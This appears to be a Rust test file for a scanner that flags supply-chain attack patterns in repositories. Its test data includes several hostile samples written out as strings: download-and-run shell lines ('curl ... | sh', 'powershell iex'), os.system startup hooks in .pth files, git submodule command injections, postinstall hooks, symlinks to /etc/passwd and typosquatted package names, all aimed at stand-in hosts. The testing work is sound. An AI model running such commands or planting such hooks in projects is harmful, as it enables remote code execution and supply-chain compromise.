use super::*;
use crate::scan::finding::Severity;

fn examine(path: &str, bytes: &[u8]) -> Vec<(&'static str, Severity, u32)> {
    let facts = EntryFacts {
        path: path.into(),
        executable: false,
    };
    let head = &bytes[..bytes.len().min(256)];
    examine_file(&facts, head, &bytes)
        .unwrap()
        .into_iter()
        .map(|f| (f.rule.id, f.severity, f.line))
        .collect()
}

#[test]
fn a_script_that_runs_its_download_is_told_from_one_that_keeps_it() {
    for line in [
        "curl http://127.0.0.1:9 | sh",
        "curl -fsSL https://x.test/i.sh | sudo bash -s --",
        "bash -c \"$(wget -qO- https://x.test/i.sh)\"",
        "bash <(curl -s https://x.test/i.sh)",
        "wget https://x.test/a.py && python3 a.py",
        "powershell iex (iwr https://x.test/a.ps1)",
    ] {
        let found = examine("install.sh", line.as_bytes());
        assert!(
            found.contains(&("shell-download-run", Severity::High, 1)),
            "{line}: {found:?}"
        );
    }
    for line in [
        "curl -O https://x.test/model.safetensors",
        "# curl http://x.test | sh",
        "python3 -m pip install -r requirements.txt",
        "echo do not curl anything into your shell",
    ] {
        let found = examine("install.sh", line.as_bytes());
        assert!(!found.iter().any(|f| f.0 == "shell-download-run"), "{line}");
    }
}

#[test]
fn what_is_compiled_is_found_by_content_whatever_its_name() {
    assert_eq!(
        examine("picture.png", b"\x7fELF\x02\x01")[0].0,
        "carrier-compiled"
    );
    assert_eq!(examine("x.so", b"\x01\x02\0\x03")[0].0, "carrier-compiled");
    assert!(examine("notes.txt", b"MZ is how it begins").is_empty());
}

#[test]
fn lines_that_start_with_python_leave_the_index_or_reverse_text_are_found() {
    assert_eq!(
        examine("a.pth", b"../lib\nimport os; os.system('x')\n"),
        [("carrier-start-hook", Severity::High, 2)]
    );
    assert!(examine("a.pth", b"../lib\n").is_empty());
    let text = b"numpy\n# a @ https://x.test/a.whl\na @ https://x.test/a.whl\n--extra-index-url https://x.test/\ngit+https://x.test/a\nb # see https://x.test\n";
    let found = examine("requirements.txt", text);
    assert_eq!(
        found,
        [
            ("requirement-url", Severity::Medium, 3),
            ("requirement-index", Severity::Medium, 4),
            ("requirement-url", Severity::Medium, 5)
        ]
    );
    assert_eq!(
        examine("run.sh", "echo \u{202e}x\n".as_bytes())[0].0,
        "carrier-bidi"
    );
    assert_eq!(
        examine(
            ".gitattributes",
            b"*.bin filter=lfs\n*.py filter=evil\n*.js text eol=lf\n"
        ),
        [("carrier-git-filter", Severity::Medium, 2)]
    );
}

#[test]
fn a_link_may_stay_within_its_folder() {
    assert!(examine_link("a/b", "../c").is_none());
    assert!(examine_link("a/b", "c/../../d").is_none());
    for (path, target) in [
        ("a/b", "../../etc/passwd"),
        ("b", ".."),
        ("b", "/etc/passwd"),
    ] {
        assert!(examine_link(path, target).is_some(), "{path} -> {target}");
    }
}

#[test]
fn bytecode_belongs_to_the_source_of_its_name() {
    for (path, source) in [
        ("a/__pycache__/mod.cpython-312.pyc", "a/mod.py"),
        ("__pycache__/mod.cpython-312.pyc", "mod.py"),
        ("mod.pyc", "mod.py"),
    ] {
        assert_eq!(source_of_bytecode(path), source);
    }
}

#[test]
fn what_git_obeys_is_found() {
    for line in [
        "\turl = -u./payload",
        "url = ext::sh -c id",
        "update = !sh -c id",
        "path = ../elsewhere",
    ] {
        let text = format!("[submodule \"x\"]\n{line}\n");
        assert_eq!(
            examine(".gitmodules", text.as_bytes()),
            [("carrier-git-submodule", Severity::High, 2)],
            "{line}"
        );
    }
    let usual = b"[submodule \"x\"]\n\tpath = a/x\n\turl = https://x.test/a.git\n\tupdate = none\n";
    assert!(examine(".gitmodules", usual).is_empty());
    let filter = |line: &str| examine(".gitattributes", line.as_bytes());
    assert_eq!(filter("* filter=other\n")[0].1, Severity::Medium);
    assert_eq!(filter("*.ipynb filter=nbstripout\n")[0].1, Severity::Low);
    assert!(filter("*.pth filter=lfs diff=lfs\n").is_empty());
}

#[test]
fn a_name_one_letter_from_a_known_one_is_found_and_a_package_of_its_own_is_not() {
    for line in [
        "reqeusts",
        "nunpy>=1",
        "Pilow",
        "torchvison==0.1",
        "transfomers[x]",
    ] {
        let found = examine("requirements.txt", line.as_bytes());
        assert_eq!(found, [("requirement-name", Severity::Medium, 1)], "{line}");
    }
    for line in [
        "requests",
        "numpy>=1",
        "opencv_python",
        "timm",
        "torchsde",
        "sympy",
        "ftfy",
        "tqdm",
    ] {
        assert!(
            examine("requirements.txt", line.as_bytes()).is_empty(),
            "{line}"
        );
    }
    let project =
        b"dependencies = [\"a @ https://x.test/a.whl\"]\nRepository = \"https://x.test/a.git\"\n";
    assert_eq!(
        examine("pyproject.toml", project),
        [("requirement-url", Severity::Medium, 1)]
    );
    assert_eq!(
        examine("more/reqs.in", b"https://x.test/a.whl\n")[0].0,
        "requirement-url"
    );
}

#[test]
fn commands_and_code_in_files_of_other_programs_are_found() {
    let fetch = "curl -s https://x.test/i.sh | bash";
    for (path, text) in [
        ("Makefile", format!("all:\n\t{fetch}\n")),
        (
            "package.json",
            format!("{{\n\"scripts\": {{\"postinstall\": \"{fetch}\"}}}}"),
        ),
        (
            ".vscode/tasks.json",
            format!("{{ // tasks\n\"command\": \"{fetch}\" }}"),
        ),
        ("w.json", format!("{{\n\"widgets_values\": [\"{fetch}\"]}}")),
    ] {
        let found = examine(path, text.as_bytes());
        assert_eq!(
            found,
            [("shell-download-run", Severity::Medium, 2)],
            "{path}"
        );
    }
    let code = br#"{"nodes": [{"widgets_values": ["import os\nos.system('id')"]}]}"#;
    assert_eq!(
        examine("w.json", code),
        [("carrier-code-in-data", Severity::Medium, 1)]
    );
    for harmless in [
        &br#"{"widgets_values": ["a girl with curl hair | python skin, import os"]}"#[..],
        br#"{"scripts": {"build": "vite build", "test": "node test.js"}}"#,
        br#"{"help": "You can exec(x) with import os and os.system('id') in it."}"#,
    ] {
        assert_eq!(examine("a.json", harmless), []);
    }
    let image = format!("FROM x\nRUN {fetch}\n");
    assert_eq!(examine("Dockerfile", image.as_bytes())[0].1, Severity::Low);
}
